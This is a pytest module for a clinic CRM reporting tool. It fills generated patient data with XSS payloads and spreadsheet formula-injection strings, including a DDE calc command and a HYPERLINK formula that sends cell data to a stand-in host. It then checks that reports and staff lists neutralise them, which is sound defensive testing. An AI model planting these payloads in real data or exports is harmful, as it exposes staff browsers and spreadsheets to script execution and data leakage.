"""Hostile values in the clinic's data reach the report and the staff lists as plain text (issue 16, points 1-2).

One module-scoped monthly run (no PDF) on a small generated clinic whose every free-text column of the data
contract (ids, names, phones, emails, regions, departments, reminder schedule labels) holds strings from
:data:`CORPUS`: script tags, event attributes, ``javascript:`` URLs, markdown links and spreadsheet formulas.
The clinic is written as a clinic's own export would be (plain ``DataFrame.to_csv``), then run through the
public entry point.

- ``report.html`` and every executed notebook's HTML outputs are parsed with :mod:`html.parser`: no
  ``<script>`` element, no ``on*`` event attribute, no ``javascript:`` URL, a Content-Security-Policy that
  forbids scripts, and the hostile department names still readable as text.
- every outreach list, CSV and XLSX (each sheet, with openpyxl): no formula cell and no cell that starts
  with a formula trigger (``= + - @``, tab, CR) unless escaped with a leading ``'``.
"""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from crm_analysis.contract import TABLES

pytestmark = pytest.mark.xdist_group("hostile_run")

SEED, PATIENTS, MONTH, END = 16, 400, "2026-10", "2026-10-31"

#: What a browser must never run.
HTML_CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.domain)>",
    '"><svg onload=alert(1)>',
    "'><body onpageshow=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
)
#: What a spreadsheet must never evaluate (CR is left out: a CSV reader takes it for the end of a row).
FORMULA_CORPUS = ('=HYPERLINK("http://x/?"&C2,"확인")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1")
CORPUS = HTML_CORPUS + FORMULA_CORPUS
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: A plain number (a negative amount) starts with "-" too, and a spreadsheet reads it as that number.
NUMBER = re.compile(r"^[-+]?[0-9]+(\.[0-9]+)?$")

#: Free-text columns of the contract that reference another table's ids, by the ids they point at.
REFERENCES = {f"{table.name}.{col.name}": col.references for table in TABLES.values() for col in table.columns
              if col.references}


def _spoiled(values: pd.Series) -> dict[str, str]:
    """Each distinct value -> itself with a hostile string glued before (odd) or after (even) it."""
    distinct = pd.unique(values.dropna().astype(str))
    return {v: (f"{CORPUS[i % len(CORPUS)]}{v}" if i % 2 else f"{v}{CORPUS[i % len(CORPUS)]}")
            for i, v in enumerate(distinct)}


def hostile_tables(tables: dict[str, pd.DataFrame]) -> dict[str, pd.DataFrame]:
    """A copy of the demo tables with :data:`CORPUS` in every free-text column of the contract, still consistent.

    Ids are spoiled once per id space (references follow), categories without a closed set per distinct value,
    names and emails row by row; phones get a hostile value on one row in eleven (the loader drops those as
    invalid) and the international form ``+82 10-...`` on one row in seven.
    """
    out = {name: df.copy() for name, df in tables.items()}
    keys = {target for target in REFERENCES.values()}
    spoilt = {key: _spoiled(out[key.split(".")[0]][key.split(".")[1]]) for key in keys}
    for table in TABLES.values():
        if table.name not in out:
            continue
        frame = out[table.name]
        for col in table.columns:
            if col.dtype not in ("id", "string", "category") or col.allowed:
                continue
            where = f"{table.name}.{col.name}"
            values = frame[col.name].astype(object)
            if where in keys or where in REFERENCES:
                mapping = spoilt[where if where in keys else REFERENCES[where]]
                frame[col.name] = values.map(mapping).where(values.notna(), None)
            elif col.name in ("name", "email"):
                frame[col.name] = [None if pd.isna(v) else (f"{CORPUS[i % len(CORPUS)]}{v}" if i % 2 else
                                                            f"{v}{CORPUS[i % len(CORPUS)]}")
                                   for i, v in enumerate(values)]
            elif col.name == "phone":
                frame[col.name] = [f"+82 10-1234-{i:04d}" if i % 7 == 0 else
                                   CORPUS[i % len(CORPUS)] if i % 11 == 0 else v for i, v in enumerate(values)]
            else:
                frame[col.name] = values.map(_spoiled(values)).where(values.notna(), None)
    return out


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """The month 2026-10 of a 400-patient clinic full of hostile values, run once (no PDF)."""
    from crm_analysis import synth
    from crm_analysis.monthly.run import run_month

    print(f"\n[hostile clinic] seed={SEED} patients={PATIENTS}")
    root = tmp_path_factory.mktemp("hostile")
    tables = hostile_tables(synth.generate_clinic(n_patients=PATIENTS, seed=SEED, end=END).tables)
    (root / "clinic").mkdir()
    for name, frame in tables.items():  # as the clinic's own export would write it
        frame.to_csv(root / "clinic" / f"{name}.csv", index=False)
    result = run_month(MONTH, root / "clinic", out=root / "reports", outreach_dir=root / "outreach", progress=False,
                       pdf=False, clinic_name="<script>alert('clinic')</script>의원")
    return result, tables


# --------------------------------------------------------------------------- HTML

class _Scripts(HTMLParser):
    """Collects what a browser could run (script elements, event attributes, javascript: URLs) and the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []
        self.csp: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if value and "".join(value.split()).lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "meta" and (dict(attrs).get("http-equiv") or "").lower() == "content-security-policy":
            self.csp.append(dict(attrs).get("content") or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parsed(html: str) -> _Scripts:
    parser = _Scripts()
    parser.feed(html)
    parser.close()
    return parser


def test_hostile_values_never_become_markup_in_the_report(hostile_run):
    result, tables = hostile_run
    parsed = _parsed((result.out_dir / "report.html").read_text(encoding="utf-8"))
    assert not parsed.found, f"report.html would run {len(parsed.found)} thing(s), e.g. {parsed.found[:5]}"
    text = "".join(parsed.text)
    departments = set(tables["visits"]["department"].dropna())
    shown = sorted(d for d in departments if d in text)
    print(f"{len(shown)} of {len(departments)} hostile department names shown as text")
    assert shown, "the hostile department names must still be readable as text"
    assert "<script>alert('clinic')</script>의원" in text


def test_the_report_forbids_scripts(hostile_run):
    result, _ = hostile_run
    parsed = _parsed((result.out_dir / "report.html").read_text(encoding="utf-8"))
    assert len(parsed.csp) == 1, "report.html needs one Content-Security-Policy meta tag"
    policy = {d.split()[0]: d.split()[1:] for d in parsed.csp[0].split(";") if d.strip()}
    assert policy.get("default-src") == ["'none'"] and policy.get("script-src", ["'none'"]) == ["'none'"], policy


def test_hostile_values_never_become_markup_in_the_notebooks(hostile_run):
    from nbconvert.filters import markdown2html

    result, _ = hostile_run
    found = []
    for path in sorted(result.out_dir.glob("*.ipynb")):
        for n, cell in enumerate(nbformat.read(path, as_version=4).cells):
            for output in cell.get("outputs", []):
                data = output.get("data", {})
                shown = [data.get("text/html", "")] + ([markdown2html(data["text/markdown"])]
                                                       if "text/markdown" in data else [])
                for html in shown:
                    found += [f"{path.name} cell {n}: {f}" for f in _parsed(html).found]
    assert not found, f"executed notebooks would run {len(found)} thing(s), e.g. {found[:5]}"


# --------------------------------------------------------------------------- the staff lists

def _unescaped(value: object) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS) and not NUMBER.match(value)


def test_no_list_cell_is_a_formula(hostile_run):
    import openpyxl

    result, _ = hostile_run
    lists = sorted(p for p in result.outreach_dir.rglob("*") if p.suffix in (".csv", ".xlsx"))  # system/ too
    assert {p.suffix for p in lists} == {".csv", ".xlsx"}
    escaped, formulas, triggered = 0, [], []
    for path in lists:
        if path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        if cell.data_type == "f":
                            formulas.append(f"{path.name}!{sheet.title}!{cell.coordinate}: {cell.value!r}")
                        elif _unescaped(cell.value):
                            triggered.append(f"{path.name}!{sheet.title}!{cell.coordinate}: {cell.value!r}")
                        escaped += isinstance(cell.value, str) and cell.value[:1] == "'"
        else:
            rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
            triggered += [f"{path.name} row {i}: {v!r}" for i, row in enumerate(rows) for v in row if _unescaped(v)]
            escaped += sum(v[:1] == "'" and v[1:2] in "=+-@\t\r" for row in rows for v in row if v)
    assert not formulas, f"{len(formulas)} formula cell(s), e.g. {formulas[:3]}"
    assert not triggered, f"{len(triggered)} cell(s) start with a formula trigger, e.g. {triggered[:3]}"
    print(f"{escaped} escaped cells in {len(lists)} lists")
    assert escaped, "the hostile names must reach the lists, escaped"


def test_escaped_names_stay_readable(hostile_run):
    """A name escaped in the list is the patient's name with one ``'`` in front, nothing else changed."""
    result, tables = hostile_run
    given = set(tables["patients"]["name"].dropna().str.strip())
    names = []
    for path in result.outreach_dir.glob("*.csv"):  # every staff list
        names += pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")["이름"].tolist()
    assert names
    for name in names:
        assert (name[1:] if name[:1] == "'" and name[1:2] in "=+-@" else name) in given, name
